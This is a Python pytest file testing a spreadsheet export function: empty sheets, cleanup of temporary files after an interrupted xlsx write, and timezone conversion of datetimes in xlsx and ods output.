def test_a_sheet_without_headers_or_rows_is_still_a_valid_file(fmt):
    output = io.BytesIO()

    assert write_file(output, [], fmt=fmt) == 0

    error = error_of(output.getvalue(), f"empty.{fmt}")
    assert error.code == "empty"


def test_an_xlsx_export_stopped_half_way_leaves_no_temporary_file(tmp_path):
    from openpyxl.worksheet import _writer

    def failing_rows():
        yield from generated_rows(10)
        raise RuntimeError("the database went away")

    before = set(_writer.ALL_TEMP_FILES)
    with pytest.raises(RuntimeError):
        write_file(io.BytesIO(), failing_rows(), fmt="xlsx", headers=["a", "b", "c", "d"])

    left = set(_writer.ALL_TEMP_FILES) - before
    assert not left and not any(Path(p).exists() for p in before - set(_writer.ALL_TEMP_FILES))


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_times_with_a_time_zone_are_written_as_the_servers_local_time(fmt):
    utc = dt.datetime(2024, 7, 1, 16, 30, tzinfo=dt.UTC)  # 12:30 in Toronto (summer time)
    dataset = tablib.Dataset([utc], headers=["when"])

    assert rows(read_table(write_table(dataset, fmt), f"x.{fmt}")) == [
        (dt.datetime(2024, 7, 1, 12, 30),)
    ]
